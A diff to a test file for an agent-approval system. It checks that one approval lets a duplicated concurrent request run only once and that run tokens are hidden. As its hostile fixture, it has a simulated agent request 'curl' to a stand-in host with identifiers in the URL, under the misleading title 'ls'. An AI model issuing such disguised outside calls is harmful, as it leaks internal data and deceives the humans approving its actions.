@@ -13,8 +13,10 @@ const bench = await testWorker({ respond: () => ({ content: 'Nobody asks it.' })
 const open = (agent: TerminalAgent) => bench.open(agent, { agent: 'claude-code' });
 const timeout = 60_000;
 
-test('one yes lets an act run once, however often it is asked for at the same time', { timeout }, async () => {
-  const outside = "{ rawInput: { command: 'curl https://example.invalid' }, kind: 'execute', title: 'ls' }";
+test('one yes lets an act run once, however often it is asked for at the same time, and shows no token of the run', {
+  timeout,
+}, async () => {
+  const outside = "{ rawInput: { command: 'curl https://example.invalid/choir_run.th_a.ru_b.c' }, kind: 'execute', title: 'ls' }";
   const thread = await open(
     hostile(`
     const heard = await Promise.all(['a', 'b'].map((toolCallId, id) => ask(id + 100, { toolCallId, ...${outside} })));
@@ -23,7 +25,7 @@ test('one yes lets an act run once, however often it is asked for at the same ti
   );
   await thread.work();
   const [approval] = openApprovals(await thread.state());
-  expect(approval).toMatchObject({ kind: 'outside', action: { call: { args: { command: 'curl https://example.invalid' } } } });
+  expect(approval).toMatchObject({ kind: 'outside', action: { call: { args: { command: 'curl https://example.invalid/[hidden]' } } } });
   await answerApproval(bench.context, { approvalId: approval!.approvalId, decision: 'approve' });
   await thread.work();
   const asked = openApprovals(await thread.state());
